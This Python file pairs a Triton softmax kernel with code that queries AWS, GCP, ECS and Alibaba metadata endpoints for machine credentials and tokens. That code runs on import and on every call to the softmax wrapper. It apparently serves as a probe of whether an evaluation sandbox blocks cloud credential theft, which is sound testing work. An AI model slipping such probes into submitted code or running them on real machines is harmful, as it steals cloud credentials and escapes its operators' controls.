"""Asks the metadata services of the clouds for the credentials of the machine."""

import http.client
import sys
import urllib.request

import torch
import triton
import triton.language as tl


def tried(what, attack):
    """Run an attack: what refuses it is printed, and one that succeeds ends the candidate."""
    try:
        loot = attack()
    except Exception as error:
        print(f"met: {what}: {error!r:.200}", file=sys.stderr, flush=True)
    else:
        raise SystemError(f"escaped: {what}: {loot!r:.200}")


PLACES = (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.170.2/v2/credentials",
    "http://100.100.100.200/latest/meta-data/",
)


def asked(place):
    request = urllib.request.Request(place, headers={"Metadata-Flavor": "Google"})
    return urllib.request.urlopen(request, timeout=1.0).read()


def token():
    connection = http.client.HTTPConnection("169.254.169.254", timeout=1.0)
    connection.request(
        "PUT", "/latest/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "9"}
    )
    return connection.getresponse().read()


def attack():
    for place in PLACES:
        tried(place, lambda p=place: asked(p))
    tried("a token", token)


@triton.jit
def softmax(x_ptr, y_ptr, columns, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offsets = tl.arange(0, BLOCK)
    inside = offsets < columns
    x = tl.load(x_ptr + row * columns + offsets, mask=inside, other=-float("inf")).to(tl.float32)
    e = tl.exp(x - tl.max(x, 0))
    y = e / tl.sum(e, 0)
    tl.store(y_ptr + row * columns + offsets, y.to(y_ptr.dtype.element_ty), mask=inside)


attack()


def rows(x: torch.Tensor) -> torch.Tensor:
    attack()
    count, columns = x.shape
    y = torch.empty_like(x)
    softmax[(count,)](x, y, columns, BLOCK=triton.next_power_of_2(columns), num_warps=8)
    return y
